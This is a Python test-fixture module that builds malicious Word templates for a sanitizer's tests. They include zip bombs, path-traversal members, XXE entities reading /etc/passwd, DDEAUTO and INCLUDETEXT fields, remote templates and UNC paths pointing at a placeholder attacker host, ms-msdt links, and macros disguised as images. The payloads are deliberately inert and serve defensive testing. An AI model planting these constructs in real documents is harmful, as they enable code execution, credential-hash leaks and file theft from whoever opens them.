"""Files that a base must not be (refused), and files of which only the letterhead may stay.

Nothing here works: addresses are those of example.org, macros and objects are empty.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from functools import cache

from tests.audit.goed import OFFICE, r
from tests.bases.basis import Build, Hostile, of
from tests.bases.beelden import VECTOR, media, ole, picture, png
from tests.bases.herkomst import KEYS, MACROS
from tests.bases.pakket import (
    DOCUMENT,
    FOOTER,
    HEADER,
    MICROSOFT,
    NUMBERING,
    ROOT,
    SETTINGS,
    STYLES,
    TYPES,
    added,
    body,
    cut,
    dutch,
    field,
    head,
    instruction,
    line,
    main_type,
    new,
    parts,
    related,
    relations_of,
    setting,
    simple,
    story,
    suffix,
    swap,
)
from tests.word_fouten import Change, zipped

MEGA = 1 << 20
_OOXML = "application/vnd.openxmlformats-officedocument"
_EVIL = "http://aanval.example.org/a"
_SHARE = r"\\aanval.example.org\map\a"

# -- too large ---------------------------------------------------------------------------------


def _filled(name: str, start: bytes, piece: bytes, end: bytes, megabytes: int) -> bytes:
    """The Dutch template with one part of many megabytes, never whole in memory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for other, content in parts().items():
            if other != name:
                archive.writestr(other, content)
        block = piece * (MEGA // len(piece))
        with archive.open(name, "w", force_zip64=True) as file:
            file.write(start)
            for _ in range(megabytes):
                file.write(block)
            file.write(end)
    return buffer.getvalue()


def _around(part: str, before: str) -> tuple[bytes, bytes]:
    """A part, cut in two in front of a text."""
    first, found, last = parts()[part].partition(before.encode())
    assert found
    return first, found + last


@cache
def _bomb() -> bytes:
    start, end = _around(DOCUMENT, "<w:sectPr")
    return _filled(DOCUMENT, start, b" ", end, 256)


@cache
def _long_header() -> bytes:
    start, end = _around(HEADER, "</w:hdr>")
    return _filled(HEADER, start, b"<w:p/>", end, 100)


@cache
def _large_picture() -> bytes:
    return _filled("word/media/image1.png", png(), b"\0", b"", 500)


@cache
def _many_parts() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
        for number in range(20_000):
            archive.writestr(f"word/media/image{number}.png", b"")
    return buffer.getvalue()


def _deep(tag: str, depth: int) -> Build:
    nested = f"<w:{tag}>" * depth + f"</w:{tag}>" * depth
    return of(head(f"<w:p>{nested}</w:p>"))


# -- the zip itself ----------------------------------------------------------------------------


def _forged(name: str, offset: int, form: str, value: int) -> Build:
    """A number in the central directory that is not true; the offset counts from the entry."""

    def build() -> bytes:
        content = bytearray(dutch())
        start = content.rindex(b"PK\x01\x02", 0, content.rindex(name.encode()))
        struct.pack_into(form, content, start + offset, value)
        return bytes(content)

    return build


def _twice(name: str, other: str = "") -> Build:
    def build() -> bytes:
        buffer = io.BytesIO(dutch())
        with zipfile.ZipFile(buffer, "a") as archive, warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr(other or name, parts()[name])
        return buffer.getvalue()

    return build


def _plus(name: str) -> Build:
    """The Dutch template and one member of this name, letter for letter."""

    def build() -> bytes:
        buffer = io.BytesIO(dutch())
        with zipfile.ZipFile(buffer, "a") as archive:
            info = zipfile.ZipInfo("x")
            info.filename = name
            archive.writestr(info, b"<x/>")
        return buffer.getvalue()

    return build


def _backslashes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts().items():
            info = zipfile.ZipInfo("x")
            info.filename = name.replace("/", "\\")
            archive.writestr(info, content)
    return buffer.getvalue()


def swap_bytes(part: str, old: bytes, fresh: bytes) -> Change:
    """Bytes that are no text."""

    def change(content: dict[str, bytes]) -> None:
        assert old in content[part]
        content[part] = content[part].replace(old, fresh, 1)

    return change


def _without(part: str) -> Change:
    """The part goes; what names it stays."""

    def change(content: dict[str, bytes]) -> None:
        del content[part]

    return change


def _text(content: bytes) -> Build:
    return lambda: content


# -- XML that is not what it seems -------------------------------------------------------------

_DECLARED = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
_LAUGHS = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))


def _entity(part: str, declared: str, old: str = "", fresh: str = "") -> Build:
    """A part with a document type of its own."""
    typed_as = f"{_DECLARED}<!DOCTYPE x [{declared}]>"
    changes = [swap(part, _DECLARED, typed_as)]
    return of(*changes, *([swap(part, old, fresh)] if old else []))


_FILE = '<!ENTITY x SYSTEM "file:///etc/passwd">'
_SITE = '<!ENTITY % x SYSTEM "http://example.org/x.dtd"> %x;'
_TEXT_OF_HEADER = (">BRIEFHOOFD kop<", ">BRIEFHOOFD kop &x;<")

# -- refused -----------------------------------------------------------------------------------

_LARGE = {
    "zipbom": Hostile(_bomb, "256 MB of spaces in the body: unpacks a thousandfold"),
    "reusachtige koptekst": Hostile(_long_header, "100 MB of empty paragraphs in a header"),
    "reusachtig plaatje": Hostile(_large_picture, "a picture of 500 MB"),
    "20.000 delen": Hostile(_many_parts, "more parts than any template has"),
    "diep genest": Hostile(_deep("smartTag", 100_000), "100,000 elements in each other"),
}
_ZIPS = {
    "omvang gelogen, te klein": Hostile(
        _forged(STYLES, 24, "<I", 10), "the directory says 10 bytes, the member holds more"
    ),
    "omvang gelogen, te groot": Hostile(
        _forged(STYLES, 24, "<I", 0xFFFFFFF0), "the directory says 4 GB"
    ),
    "controlegetal klopt niet": Hostile(_forged(STYLES, 16, "<I", 1), "a damaged member"),
    "zip met wachtwoord": Hostile(_forged(STYLES, 8, "<H", 1), "an encrypted member"),
    "onbekende compressie": Hostile(_forged(STYLES, 10, "<H", 9), "Deflate64: Word reads it not"),
    "afgekapte zip": Hostile(lambda: dutch()[:-900], "a download that was cut off"),
    "dubbel deel": Hostile(
        _twice(STYLES), "two members of one name: each program reads another", ".dotx"
    ),
    "dubbel deel in hoofdletters": Hostile(
        _twice(HEADER, "word/Header1.xml"), "part names differ only in capitals"
    ),
    "pad omhoog": Hostile(_plus("../../x"), "a member outside the folder"),
    "pad omhoog halverwege": Hostile(_plus("word/../../x"), "a member outside the folder"),
    "absoluut pad": Hostile(_plus("/etc/x"), "a member at the root"),
    "schijfletter": Hostile(_plus("C:/Windows/x"), "a member on a disk of Windows"),
    "pad omhoog met backslash": Hostile(_plus("..\\..\\x"), "the same, for Windows"),
    "backslashes": Hostile(_backslashes, "word\\document.xml: no part that the standard knows"),
    "NUL in een naam": Hostile(_plus("word/x.xml\0.png"), "a name that ends halfway in C"),
}
_KINDS = {
    "versleuteld": Hostile(
        _text(ole("EncryptionInfo", "EncryptedPackage")), "protected by a password to open"
    ),
    "hernoemde .doc": Hostile(
        _text(ole("WordDocument", "1Table")), "the old format under a new name", ".dotx"
    ),
    "PDF": Hostile(_text(b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"), "a PDF, renamed"),
    "RTF": Hostile(_text(rb"{\rtf1\ansi BODYTEKST}"), "an RTF, renamed"),
    "HTML": Hostile(_text(b"<html><body>BODYTEKST</body></html>"), "a saved login page"),
    "leeg bestand": Hostile(_text(b""), "nothing"),
    "lege zip": Hostile(lambda: zipped({}), "a zip without members"),
    "ODT": Hostile(
        lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}), "an ODT, renamed"
    ),
    "geen inhoudstypen": Hostile(of(_without(TYPES)), "no [Content_Types].xml"),
    "geen relaties": Hostile(of(_without(ROOT)), "no _rels/.rels"),
    "geen hoofddocument": Hostile(of(_without(DOCUMENT)), "the part that all is about is missing"),
    "werkmap": Hostile(of(main_type(f"{_OOXML}.spreadsheetml.sheet.main+xml")), "an xlsx, renamed"),
    "presentatie": Hostile(
        of(main_type(f"{_OOXML}.presentationml.presentation.main+xml")), "a pptx, renamed"
    ),
    "ander hoofdelement": Hostile(
        of(new(DOCUMENT, f"{_DECLARED}<html><body>BODYTEKST</body></html>")), "HTML as main part"
    ),
    "hoofddocument elders": Hostile(
        of(
            cut(ROOT, 'Target="word/document.xml"', f'Target="{_EVIL}" TargetMode="External"'),
        ),
        "the main part is fetched from the web",
    ),
}
_XML = {
    "miljard keer lachen": Hostile(
        _entity(DOCUMENT, _LAUGHS, ">BODYTEKST slot<", ">&l9;<"), "entities that multiply"
    ),
    "entiteit in de koptekst": Hostile(
        _entity(HEADER, _FILE, ">BRIEFHOOFD kop<", ">BRIEFHOOFD kop &x;<"), "reads a local file"
    ),
    "entiteit in de stijlen": Hostile(
        _entity(STYLES, '<!ENTITY x "Title">', '"Title"', '"&x;"'), "an entity in a value"
    ),
    **{
        f"doctype in {part}": Hostile(_entity(part, _SITE), "reads a definition from the web")
        for part in (
            DOCUMENT,
            NUMBERING,
            SETTINGS,
            FOOTER,
            TYPES,
            ROOT,
            relations_of(DOCUMENT),
            "word/theme/theme1.xml",
        )
    },
    "geen UTF-8": Hostile(
        of(swap_bytes(DOCUMENT, b"BODYTEKST slot", b"BODYTEKST \xff\xfe\x80")),
        "letters that are none",
    ),
    "geen UTF-8 in de koptekst": Hostile(
        of(swap_bytes(HEADER, b"BRIEFHOOFD kop", b"BRIEFHOOFD kop \xe9")), "ANSI said to be UTF-8"
    ),
    "kapotte stijlen": Hostile(of(swap(STYLES, "</w:styles>", "")), "XML that is cut off"),
}
GROUPS: dict[str, dict[str, Hostile]] = {
    "large": _LARGE,
    "zip": _ZIPS,
    "kind": _KINDS,
    "xml": _XML,
}
"""What is refused, by what is wrong with it."""
REFUSED: dict[str, Hostile] = {
    name: one for group in GROUPS.values() for name, one in group.items()
}

# -- disarmed ----------------------------------------------------------------------------------

_GONE = (b"aanval",)
_HIDDEN = "aanval".encode("utf-16-le")
"""How the name of a module stands in an old Office file."""


def _outside(source: str, rid: str, kind: str, target: str, *changes: Change) -> Build:
    """A relation that leads out of the file, and what uses it."""
    return of(related(source, rid, kind, target, external=True), *changes)


def _harmless_looking(name: str, content_type: str, kind: str) -> Build:
    return of(added(name, ole("AANVAL", "PROJECT"), content_type, kind, "rMacro"))


def _linked(target: str) -> Build:
    link = f'<w:hyperlink r:id="rUit">{r("BRIEFHOOFD koppeling")}</w:hyperlink>'
    return _outside(HEADER, "rUit", "hyperlink", target, head(line(link)))


def _fetched(code: str) -> Build:
    return of(head(line(field(code, "leeg"))))


_FILM = (
    '<a:extLst><a:ext uri="{C809E66F-F1BF-436E-B5F7-EEA9579F0CBA}"><wp15:webVideoPr '
    'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
    f'embeddedHtml="&lt;iframe src=&quot;{_EVIL}&quot;/&gt;" h="9" w="9"/></a:ext></a:extLst>'
)
_SCRIPTED = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>aanval()</script>'
    f'<image href="{_EVIL}.png" width="9" height="9"/></svg>'
)
_CLICKED = picture('r:embed="rLogo"').replace(
    'descr="Logo van de gemeente"/>',
    'descr="Logo van de gemeente"><a:hlinkClick r:id="rUit"/></wp:docPr>',
)
_OBJECT = (
    '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:72pt;height:36pt" o:ole=""/>'
    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" '
    'ObjectID="_1600000001" r:id="rOle"/></w:object></w:r></w:p>'
)
_ACTIVE = (
    '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
    'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistPropertyBag"/>'
)
_RIBBON = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Aanval"/>'
_TEMPLATE = setting('<w:attachedTemplate r:id="rUit"/>')
_TEMPLATES = {
    "sjabloon van het web": Hostile(
        _outside(SETTINGS, "rUit", "attachedTemplate", f"{_EVIL}.dotm", _TEMPLATE),
        "Word fetches a template with macros on opening",
        gone=(*_GONE, b"attachedtemplate"),
        or_refused=True,
    ),
    "sjabloon van een UNC-pad": Hostile(
        _outside(SETTINGS, "rUit", "attachedTemplate", f"file:///{_SHARE}.dotm", _TEMPLATE),
        "sends the password's hash to a stranger",
        gone=(*_GONE, b"attachedtemplate"),
        or_refused=True,
    ),
    "sjabloon van een bouwsteendocument": Hostile(
        of(
            added(
                "word/glossary/document.xml",
                story("glossaryDocument", "<w:docParts/>"),
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
                "glossaryDocument",
                "rBouw",
            ),
            related("word/glossary/document.xml", "rUit", "attachedTemplate", _EVIL, external=True),
        ),
        "a part within a part that leads out",
        gone=_GONE,
    ),
}
_PICTURES = {
    f"{what} in de kop": Hostile(
        _outside(HEADER, "rUit", "image", target, head(line(picture(f'r:{how}="rUit"')))),
        "tells a stranger who opens the paper, and when",
        gone=_GONE,
    )
    for what, how, target in (
        ("plaatje van het web", "link", f"{_EVIL}.png"),
        ("plaatje van een UNC-pad", "link", f"file:///{_SHARE}.png"),
        ("ingesloten plaatje van het web", "embed", f"{_EVIL}.png"),
    )
} | {
    "VML-plaatje van het web": Hostile(
        _outside(
            HEADER,
            "rUit",
            "image",
            f"{_EVIL}.png",
            head(
                '<w:p><w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="rUit"/>'
                "</v:shape></w:pict></w:r></w:p>"
            ),
        ),
        "the same in the old drawing language",
        gone=_GONE,
    ),
    "VML-plaatje zonder relatie": Hostile(
        of(
            head(
                f'<w:p><w:r><w:pict><v:shape style="width:9pt;height:9pt" href="{_EVIL}">'
                "<v:imagedata "
                f'src="{_EVIL}.png" o:href="{_EVIL}.png"/></v:shape></w:pict></w:r></w:p>'
            )
        ),
        "an address in an attribute",
        gone=_GONE,
    ),
    "VML-plaatje met r:href": Hostile(
        _outside(
            HEADER,
            "rUit",
            "image",
            f"{_EVIL}.png",
            head(
                '<w:p><w:r><w:pict><v:shape style="width:9pt;height:9pt">'
                '<v:imagedata r:href="rUit"/></v:shape></w:pict></w:r></w:p>'
            ),
        ),
        "a link under another attribute",
        gone=_GONE,
    ),
    "SVG van het web": Hostile(
        of(
            suffix("png", "image/png"),
            suffix("svg", "image/svg+xml"),
            media(HEADER, "rLogo", "image1.png", png()),
            media(HEADER, "rSvg", "image2.svg", _SCRIPTED),
            head(line(picture('r:embed="rLogo"', inner=VECTOR))),
        ),
        "a drawing that fetches and runs",
        gone=_GONE,
    ),
    "programma als plaatje": Hostile(
        of(
            suffix("png", "image/png"),
            media(HEADER, "rLogo", "image1.png", ole("AANVAL")),
            head(line(picture('r:embed="rLogo"'))),
        ),
        "said to be a PNG, and is an old Office file",
        gone=(_HIDDEN,),
    ),
    "aanwijzen van het logo": Hostile(
        _outside(
            HEADER,
            "rUit",
            "hyperlink",
            f"file:///{_SHARE}.exe",
            suffix("png", "image/png"),
            media(HEADER, "rLogo", "image1.png", png()),
            head(line(_CLICKED.replace("hlinkClick", "hlinkHover"))),
        ),
        "pointing is enough",
        gone=_GONE,
    ),
    "opsommingsteken van het web": Hostile(
        _outside(
            NUMBERING,
            "rUit",
            "image",
            f"{_EVIL}.png",
            swap(
                NUMBERING,
                "<w:abstractNum ",
                '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape '
                'xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt">'
                '<v:imagedata r:id="rUit"/></v:shape></w:pict>'
                "</w:numPicBullet><w:abstractNum ",
            ),
            swap(NUMBERING, "<w:lvlJc", '<w:lvlPicBulletId w:val="0"/><w:lvlJc'),
        ),
        "numbering is kept, and its picture leads out",
        gone=_GONE,
    ),
    "thema van het web": Hostile(
        _outside("word/theme/theme1.xml", "rUit", "image", f"{_EVIL}.png"),
        "the theme is kept, and leads out",
        gone=_GONE,
    ),
    "lettertype van het web": Hostile(
        _outside(
            "word/fontTable.xml",
            "rUit",
            "font",
            f"{_EVIL}.odttf",
            swap(
                "word/fontTable.xml",
                '<w:pitch w:val="variable"/>',
                '<w:pitch w:val="variable"/><w:embedRegular r:id="rUit" '
                'w:fontKey="{5C0A7C5D-0D1B-4E6F-9A2B-3C4D5E6F7A8B}"/>',
            ),
        ),
        "the fonts are kept, and lead out",
        gone=_GONE,
    ),
    "noten van het web": Hostile(
        _outside(
            "word/footnotes.xml",
            "rUit",
            "image",
            f"{_EVIL}.png",
            swap(
                "word/footnotes.xml",
                "<w:separator/></w:r>",
                "<w:separator/></w:r>" + picture('r:link="rUit"'),
            ),
        ),
        "the line above the notes holds a picture that leads out",
        gone=_GONE,
    ),
    "achtergrond van het web": Hostile(
        _outside(
            DOCUMENT,
            "rUit",
            "image",
            f"{_EVIL}.png",
            swap(
                DOCUMENT,
                "<w:body>",
                '<w:background w:color="FFFFFF"><v:background fill="t"><v:fill r:id="rUit" '
                'type="frame"/>'
                "</v:background></w:background><w:body>",
            ),
        ),
        "the page itself leads out",
        gone=_GONE,
    ),
    "miniatuur van het web": Hostile(
        _outside(
            "",
            "rUit",
            "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
            f"{_EVIL}.png",
        ),
        "the file manager fetches it",
        gone=_GONE,
    ),
    "film van het web": Hostile(
        of(
            suffix("png", "image/png"),
            media(HEADER, "rLogo", "image1.png", png()),
            head(line(picture('r:embed="rLogo"', inner=_FILM))),
        ),
        "a page of the web behind a picture",
        gone=_GONE,
    ),
}
_LINKS = {
    f"koppeling naar {what}": Hostile(_linked(target), "one click starts a program", gone=_GONE)
    for what, target in (
        ("een bestand", "file:///C:/Windows/aanval.exe"),
        ("een UNC-pad", f"file:///{_SHARE}.exe"),
        ("een kale UNC", _SHARE),
        ("een script", "javascript:aanval()"),
        ("een programma", "ms-msdt:/id aanval"),
    )
} | {
    "klik op het logo": Hostile(
        of(
            suffix("png", "image/png"),
            media(HEADER, "rLogo", "image1.png", png()),
            related(HEADER, "rUit", "hyperlink", "file:///C:/aanval.exe", external=True),
            head(line(_CLICKED)),
        ),
        "a logo that is a link",
        gone=_GONE,
    )
}
_PROGRAMS = {
    "macro's": Hostile(
        of(MACROS, KEYS),
        "macros in a file called .docx",
        gone=(b"vbaproject", b"vbadata", b"keymap"),
    ),
    "macro's als plaatje": Hostile(
        _harmless_looking("word/media/image9.png", "image/png", f"{MICROSOFT}/vbaProject"),
        "macros under the name and type of a picture",
        gone=(_HIDDEN, b"vbaproject"),
    ),
    "macro's als thema": Hostile(
        _harmless_looking(
            "word/theme/theme9.bin", "application/vnd.ms-office.vbaProject", f"{OFFICE}/theme"
        ),
        "macros under the relation of a theme",
        gone=(_HIDDEN, b"vbaproject"),
    ),
    "macro's zonder relatie": Hostile(
        of(new("word/vbaProject.bin", ole("AANVAL")), suffix("bin", "application/octet-stream")),
        "a part that nothing leads to",
        gone=(_HIDDEN, b"vbaproject"),
    ),
    "ActiveX in de kop": Hostile(
        of(
            added(
                "word/activeX/activeX1.xml",
                _ACTIVE,
                "application/vnd.ms-office.activeX+xml",
                "control",
                "rKnop",
                HEADER,
            ),
            head(
                '<w:p><w:r><w:object><w:control r:id="rKnop" w:name="Knop" '
                'w:shapeid="_x0000_i1025"/></w:object></w:r></w:p>'
            ),
        ),
        "a button that runs code",
        gone=(b"activex",),
    ),
    "OLE-pakket in de kop": Hostile(
        of(
            suffix("bin", "application/vnd.openxmlformats-officedocument.oleObject"),
            new("word/embeddings/oleObject1.bin", ole("AANVAL")),
            related(HEADER, "rOle", "oleObject", "embeddings/oleObject1.bin"),
            head(_OBJECT),
        ),
        "a program in the letterhead",
        gone=(_HIDDEN, b"oleobject"),
    ),
    "OLE-koppeling naar het web": Hostile(
        _outside(
            HEADER, "rOle", "oleObject", f"{_EVIL}.html!", head(_OBJECT.replace("Embed", "Link"))
        ),
        "a page that starts a program",
        gone=(*_GONE, b"oleobject"),
    ),
    "knoppen van het web": Hostile(
        of(
            new("customUI/customUI.xml", _RIBBON),
            related("", "rLint", f"{MICROSOFT}/ui/extensibility", "customUI/customUI.xml"),
        ),
        "a ribbon that runs a macro",
        gone=_GONE,
    ),
}
_QUOTED = instruction(" DDE") + instruction("AUTO ") + field(' QUOTE "aanval.exe" ', "x")
_FIELDS = {
    f"{code.split()[0]}-veld in de kop": Hostile(
        _fetched(code), "runs or fetches as soon as fields are updated", gone=_GONE
    )
    for code in (
        r'DDEAUTO c:\\windows\\aanval.exe "/k"',
        r'DDE "aanval" "x"',
        f'INCLUDETEXT "{_EVIL}.docx"',
        f'INCLUDEPICTURE "{_EVIL}.png" \\d',
        f'LINK Word.Document.12 "{_EVIL}.docx" \\a',
        f'IMPORT "{_EVIL}.png"',
        f'HYPERLINK "file:///{_SHARE}.exe"',
        f'RD "{_EVIL}.docx"',
        'DATABASE \\d "aanval.mdb" \\s "SELECT 1"',
        "MACROBUTTON Aanval Klik",
    )
} | {
    "DDEAUTO in stukken": Hostile(_fetched(_QUOTED), "the same, cut up", gone=_GONE),
    "ddeauto in kleine letters": Hostile(
        of(head(line(simple(r"ddeauto c:\\aanval.exe x", "x")))), "in one element", gone=_GONE
    ),
}
_TEXTS = {
    "altChunk in de kop": Hostile(
        _outside(
            HEADER, "rUit", "aFChunk", f"{_EVIL}.docx", head('<w:altChunk r:id="rUit"/><w:p/>')
        ),
        "another file, pasted on opening",
        gone=(*_GONE, b"altchunk"),
    ),
    "subdocument": Hostile(
        _outside(
            DOCUMENT,
            "rUit",
            "subDocument",
            f"{_EVIL}.docx",
            body('<w:p><w:subDoc r:id="rUit"/></w:p>'),
        ),
        "the body goes, its relation must go too",
        gone=_GONE,
    ),
    "kader van het web": Hostile(
        _outside(
            "word/webSettings.xml",
            "rUit",
            "frame",
            _EVIL,
            swap(
                "word/webSettings.xml",
                "<w:optimizeForBrowser/>",
                '<w:frameset><w:frame><w:sourceFileName r:id="rUit"/></w:frame></w:frameset>'
                "<w:optimizeForBrowser/>",
            ),
        ),
        "a page of the web as frame",
        gone=_GONE,
    ),
    "samenvoegen met een databank": Hostile(
        _outside(
            SETTINGS,
            "rUit",
            "mailMergeSource",
            _EVIL,
            setting(
                '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
                '<w:connectString w:val="Provider=aanval"/><w:dataSource r:id="rUit"/>'
                "</w:mailMerge>"
            ),
        ),
        "a query on opening",
        gone=(*_GONE, b"mailmerge"),
    ),
    "omzetting van het web": Hostile(
        _outside(
            SETTINGS,
            "rUit",
            "transform",
            f"{_EVIL}.xsl",
            setting('<w:saveThroughXslt r:id="rUit"/>', "footnotePr"),
        ),
        "a transformation on saving",
        gone=_GONE,
    ),
    "doctype in de eigenschappen": Hostile(
        _entity("docProps/core.xml", '<!ENTITY x "aanval">'),
        "a part that need not be read",
        gone=(b"<!doctype",),
        or_refused=True,
    ),
    "onbekende relatie": Hostile(
        _outside(DOCUMENT, "rUit", "http://example.org/nieuw", _EVIL),
        "of a kind still to come",
        gone=_GONE,
    ),
}
DISARMED: dict[str, Hostile] = _TEMPLATES | _PICTURES | _LINKS | _PROGRAMS | _FIELDS | _TEXTS
